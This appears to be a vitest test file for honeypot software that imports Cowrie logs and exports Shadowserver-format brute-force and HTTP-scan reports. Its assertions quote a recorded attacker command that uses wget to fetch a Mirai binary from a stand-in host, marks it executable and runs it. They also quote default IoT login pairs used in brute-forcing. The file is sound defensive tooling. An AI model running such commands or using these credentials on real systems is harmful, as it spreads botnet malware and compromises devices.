/** Cowrie log import (mapping, malformed lines, idempotence) and the Shadowserver-layout exports. */
import { readFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { openGeo } from "../../../src/core/geo/index.js";
import type { Storage } from "../../../src/core/storage/index.js";
import { CowrieMapper, createEnrolToken, exportShadowserver, honeypotStats, importCowrie, ingestEvents, lineEventId, queryEvents, shadowserverColumns } from "../../../src/honeypot/index.js";
import { describeEachBackend } from "../../helpers/db.js";
import { describeWithShared, haveSharedFixtures, sharedFixture } from "../../helpers/fixtures.js";
import { event, geoPaths } from "./support.js";

const cowrieLog = path.join(path.dirname(fileURLToPath(import.meta.url)), "../fixtures/cowrie.json");

async function csvOf(storage: Storage, format: keyof typeof shadowserverColumns, since: string): Promise<string> {
  let text = "";
  for await (const line of exportShadowserver(storage.db, format, since)) text += line;
  return text;
}

describeEachBackend("cowrie import", (open) => {
  it("maps the log, reports malformed lines by number, skips what has no counterpart, and re-imports as a no-op", async () => {
    const storage = await open();
    const geo = await openGeo(haveSharedFixtures ? geoPaths : {});
    const first = await importCowrie(storage, cowrieLog, { geo });
    expect(first).toMatchObject({ lines: 28, events: 22, accepted: 22, duplicates: 0, error_count: 2, sensors: ["cowrie-fra-01", "cowrie-syd-02"] });
    expect(first.skipped).toEqual({ "cowrie.client.version": 1, "cowrie.client.kex": 1, "cowrie.log.closed": 1, "cowrie.direct-tcpip.request": 1 });
    expect(first.errors.map((e) => e.line)).toEqual([26, 27]);
    expect(first.errors[0]!.reason).toMatch(/not JSON/);
    expect(first.errors[1]!.reason).toMatch(/src_ip/);

    const before = await storage.db.selectFrom("honeypot_daily").select(["dimension", "key", "count"]).orderBy("dimension").orderBy("key").execute();
    const again = await importCowrie(storage, cowrieLog, { geo });
    expect(again).toMatchObject({ accepted: 0, duplicates: 22 });
    const after = await storage.db.selectFrom("honeypot_daily").select(["dimension", "key", "count"]).orderBy("dimension").orderBy("key").execute();
    expect(after).toEqual(before);

    const telnet = await queryEvents(storage.db, { sensor: "cowrie-fra-01", eventid: "telnet.login.success" });
    const byProto = Object.fromEntries(telnet.map((s) => [s.event.protocol, s.event]));
    // The SSH session's login keeps protocol ssh and inherits the connect line's ports.
    expect(byProto.ssh).toMatchObject({ username: "root", password: "root", src_ip: "89.160.20.113", src_port: 48299, dst_port: 22, dst_ip: "10.0.0.5", session: "a1b2c3d4e5f6", timestamp: "2026-11-24T10:15:05.730Z" });
    expect(byProto.telnet).toMatchObject({ username: "root", password: "xc3511", dst_port: 23 });
    const downloads = await queryEvents(storage.db, { eventid: "telnet.session.file_download" });
    expect(downloads.map((d) => d.event.url).sort()).toEqual(["http://198.51.100.7/bins/mirai.arm7", "http://198.51.100.7/bins/mirai.mips"]);
    const closed = await queryEvents(storage.db, { eventid: "session.closed" });
    expect(closed.map((d) => d.event.duration).sort()).toEqual([7.2, 9.8]);
    const size = await queryEvents(storage.db, { eventid: "telnet.client.size" });
    expect(size[0]!.event).toMatchObject({ width: 80, height: 24 });

    const cmd = await honeypotStats(storage.db, { by: "command", since: "2026-11-24T00:00:00.000Z" });
    expect(cmd.rows.map((r) => r.commands)).toContainEqual(["enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cd /tmp; wget http://198.51.100.7/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7 telnet"]);
    const sensors = await storage.db.selectFrom("honeypot_sensors").select(["id", "origin"]).orderBy("id").execute();
    expect(sensors).toEqual([
      { id: "cowrie-fra-01", origin: "import" },
      { id: "cowrie-syd-02", origin: "import" },
    ]);
    if (haveSharedFixtures) {
      const country = await honeypotStats(storage.db, { by: "country", since: "2026-11-24T00:00:00.000Z" });
      expect(Object.fromEntries(country.rows.map((r) => [r.key, r.count]))).toEqual({ SE: 9, GB: 12, unknown: 1 });
    }
  });

  it("names the sensor from --sensor over the log's field", async () => {
    const storage = await open();
    const r = await importCowrie(storage, cowrieLog, { sensor: "renamed" });
    expect(r.sensors).toEqual(["renamed"]);
  });
});

describe("cowrie mapping", () => {
  it("derives the same event id from the same line, a UUID with version 5", () => {
    const line = '{"eventid":"cowrie.login.failed"}';
    expect(lineEventId(line)).toBe(lineEventId(line));
    expect(lineEventId(line)).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(lineEventId(line)).not.toBe(lineEventId(`${line} `));
  });

  it("guesses telnet from port 23 when the connect line is missing, and refuses a line without a sensor", () => {
    const m = new CowrieMapper();
    const out = m.map('{"eventid":"cowrie.login.failed","session":"s","src_ip":"192.0.2.1","dst_port":23,"sensor":"x","timestamp":"2026-01-01T00:00:00Z","username":"a","password":"b"}');
    expect(out).toMatchObject({ kind: "event", event: { protocol: "telnet", eventid: "telnet.login.failed" } });
    expect(m.map('{"eventid":"cowrie.login.failed","session":"s","src_ip":"192.0.2.1","timestamp":"2026-01-01T00:00:00Z"}')).toMatchObject({ kind: "error", reason: expect.stringMatching(/sensor/) });
    expect(m.map("[1,2]")).toMatchObject({ kind: "error", reason: "not a JSON object" });
  });
});

describeWithShared("shadowserver exports", () => {
  const header = (file: string) => (parse(readFileSync(sharedFixture(file)), { to_line: 1 }) as string[][])[0];

  it("brute-force and http-scan headers are exactly Shadowserver's", () => {
    expect([...shadowserverColumns["shadowserver-brute-force"]]).toEqual(header("scan/shadowserver_event4_honeypot_brute_force.csv"));
    expect([...shadowserverColumns["shadowserver-http-scan"]]).toEqual(header("scan/shadowserver_event4_honeypot_http_scan.csv"));
  });

  describeEachBackend("export rows", (open) => {
    it("writes one brute-force row per login attempt and one http-scan row per request, with our values", async () => {
      const storage = await open();
      await createEnrolToken(storage, "s1", { country: "NL", asn: 1136 });
      const geo = await openGeo(geoPaths);
      const login = event({ eventid: "telnet.login.failed", username: 'ro"ot', password: "vizxv", src_ip: "89.160.20.113", dst_ip: "198.51.100.4", timestamp: "2026-11-24T10:00:01.250Z" });
      const req = event({ eventid: "http.request", protocol: "http", dst_port: 8080, method: "GET", path: "/cgi-bin/luci", query: "a=1", user_agent: "Mozila/5.0", src_ip: "2.125.160.217" });
      await ingestEvents(storage, [login, req, event({ eventid: "session.connect" })], { geo });

      const brute = parse(await csvOf(storage, "shadowserver-brute-force", "2026-11-24T00:00:00.000Z"), { columns: true }) as Record<string, string>[];
      expect(brute).toHaveLength(1);
      expect(brute[0]).toMatchObject({
        timestamp: "2026-11-24 10:00:01",
        protocol: "tcp",
        src_ip: "89.160.20.113",
        src_port: "40000",
        src_asn: "29518",
        src_geo: "SE",
        dst_ip: "198.51.100.4",
        dst_port: "23",
        dst_asn: "1136",
        dst_geo: "NL",
        infection: "telnet-brute-force",
        application: "telnet",
        event_id: login.id,
        username: 'ro"ot',
        password: "vizxv",
        payload_url: "",
      });
      const http = parse(await csvOf(storage, "shadowserver-http-scan", "2026-11-24T00:00:00.000Z"), { columns: true }) as Record<string, string>[];
      expect(http).toEqual([expect.objectContaining({ src_geo: "GB", dst_port: "8080", infection: "http-scan", http_url: "/cgi-bin/luci?a=1", http_agent: "Mozila/5.0", http_request_method: "GET", url_scheme: "http" })]);
      // Nothing before the window.
      expect((await csvOf(storage, "shadowserver-http-scan", "2026-11-25T00:00:00.000Z")).split("\n").filter(Boolean)).toHaveLength(1);
    });
  });
});
